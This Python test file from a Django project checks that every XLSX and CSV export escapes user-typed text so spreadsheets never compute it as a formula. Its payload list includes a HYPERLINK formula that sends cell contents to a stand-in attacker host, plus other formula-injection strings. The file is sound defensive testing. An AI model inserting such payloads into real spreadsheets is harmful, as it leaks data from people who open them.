"""No formula injection: every XLSX and CSV the product writes carries user text as text.

Formulas are typed into each free-text field that reaches an export (warn reasons, ordering reasons,
names of learners and units, the approval's document reference), then every export is downloaded
through its view and unzipped: no `<f>` element, and no cell whose text starts with `= + - @`, a tab or
a carriage return without the escaping quote.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from jixing.announcements.domain.publishing import publish
from jixing.demo.generate import MIN_LEARNERS, run_demo
from jixing.nominations.domain.evaluation import evaluate_campaign
from jixing.nominations.enums import NominationState as S
from jixing.tables import ORGS_TEMPLATE, TEMPLATES, write_csv, write_xlsx
from jixing.tables.formula_safe import FORMULA_STARTS, escape_formula
from tests.announcements.helpers import at, build_world, evaluated, listed
from tests.demo.conftest import NOW
from tests.review.screening_world import add_nomination, add_unit, make_world

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
PACKAGE = Path(__file__).resolve().parents[2] / "jixing"


def reads_as_formula(text: str) -> bool:
    """What a spreadsheet computes: text starting with = + - @ tab CR, a plain number aside."""
    return text.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


def assert_xlsx_has_no_formula(content: bytes) -> list[str]:
    """Every text of the workbook (to look for the payloads in), after checking none is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert not reads_as_formula(cell.value), (cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def assert_csv_has_no_formula(content: bytes) -> None:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for value in row:
            assert not reads_as_formula(value), value


def test_escape_formula_quotes_text_that_a_spreadsheet_would_compute():
    assert [escape_formula(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [escape_formula(v) for v in ("张三", "事迹突出", "", "'已有引号")] == [
        "张三",
        "事迹突出",
        "",
        "'已有引号",
    ]


def test_escape_formula_keeps_numbers_as_numbers():
    assert [escape_formula(v) for v in (-5, 3.5, None, "-12", "+3.5", "30000")] == [-5, 3.5, None, "-12", "+3.5", "30000"]  # fmt: skip


def test_template_writers_escape_formulas_in_rows():
    rows = [{"code": p, "name": p, "level": "单位", "members": -3} for p in PAYLOADS]
    xlsx, text = io.BytesIO(), io.BytesIO()
    write_xlsx(ORGS_TEMPLATE, xlsx, rows)
    write_csv(ORGS_TEMPLATE, text, rows)
    texts = assert_xlsx_has_no_formula(xlsx.getvalue())
    assert all("'" + p in texts for p in PAYLOADS)
    assert load_workbook(xlsx).active["I2"].value == -3  # numbers stay numbers
    assert_csv_has_no_formula(text.getvalue())
    assert "'+1+1" in text.getvalue().decode("utf-8-sig")


def test_no_module_writes_a_spreadsheet_around_the_formula_safe_writer():
    # Future exports get the escaping by default only if they cannot build a workbook or CSV another way.
    pattern = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "formula_safe.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.django_db
def test_recommendation_sheet_download_carries_typed_formulas_as_text(client, media_root):
    world = make_world(nominations=1, seats=len(PAYLOADS) + 1)
    typed = [
        # Unit and learner names as an import brings them; the warn reason as the unit typed it.
        add_nomination(
            world,
            add_unit(world, payload),
            account=f"F{i}",
            name=payload,
            total=20000 - i,
            warn_reason=payload,
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    evaluate_campaign(world.campaign)
    nominations = world.nominations + typed
    client.force_login(world.users.taiyuan)
    data = {"row": [n.pk for n in nominations], "pick": [n.pk for n in nominations]}
    for position, n in enumerate(reversed(nominations), start=1):  # reversed: every reason is needed
        data[f"order-{n.pk}"] = str(position)
        data[f"reason-{n.pk}"] = PAYLOADS[position % len(PAYLOADS)]
    assert client.post(reverse("review:screening_picks", args=[1]), data).status_code == 302
    response = client.get(reverse("review:list_sheet", args=[world.tree["taiyuan"].pk]))
    assert response.status_code == 200
    texts = assert_xlsx_has_no_formula(response.content)
    for payload in PAYLOADS:  # each reached the sheet (a reason cell may go on after a line break)
        assert any(t.startswith("'" + payload.strip()) for t in texts), payload
    assert any("排序调整：=HYPERLINK" in t for t in texts)  # inside a cell: shown as typed, not computed


@pytest.mark.django_db
def test_final_list_download_carries_typed_formulas_as_text(client):
    world = build_world()
    school = world.tree["school"]
    school.name = PAYLOADS[1]
    school.save(update_fields=["name"])
    for learner, payload in zip(world.learners.values(), PAYLOADS[:3], strict=True):
        learner.name = payload
        learner.save(update_fields=["name"])
    nominations = [
        listed(
            world,
            account,
            category=number,
            org=org,
            state=S.SELECTED,
            nominee_name=world.learners[account].name,
        )
        for account, number, org in (("A1", 1, "school"), ("A2", 2, "school"), ("D1", 1, "datong_school"))
    ]
    evaluated(world, *nominations)
    publish(campaign=world.campaign, actor=world.users.province, now=at(2023, 1, 20))
    client.force_login(world.users.province)
    response = client.post(
        reverse("review:province_approval"),
        {"document_ref": PAYLOADS[0], "approved_on": "2023-02-03", "note": PAYLOADS[3]},
    )
    assert response.status_code == 302
    for n in nominations:
        n.refresh_from_db()
        assert n.state == S.APPROVED
        n.state = S.COMMENDED  # commending is tested in tests/announcements; only the export matters here
        n.save(update_fields=["state"])
    response = client.get(reverse("review:province_final_export"))
    assert response.status_code == 200
    texts = assert_xlsx_has_no_formula(response.content)
    assert {"'+1+1", "'-2+3", "'" + PAYLOADS[0]} <= set(texts)
    assert any(PAYLOADS[0] in t for t in texts if "批复" in t)  # the subtitle holds the document reference


@pytest.mark.django_db
def test_template_downloads_hold_no_formula(client):
    world = build_world()
    client.force_login(world.users.province)
    for kind in TEMPLATES:
        for fmt, check in (("xlsx", assert_xlsx_has_no_formula), ("csv", assert_csv_has_no_formula)):
            response = client.get(reverse("review:template", args=[kind, fmt]))
            assert response.status_code == 200, (kind, fmt)
            check(response.content)


def test_demo_files_hold_no_formula(tmp_path):
    run = run_demo(learners=MIN_LEARNERS, now=NOW, files=tmp_path, load=False)
    for path in run.files:
        if path.suffix == ".xlsx":
            assert_xlsx_has_no_formula(path.read_bytes())
        elif path.suffix == ".csv" and "GBK" not in path.name:
            assert_csv_has_no_formula(path.read_bytes())
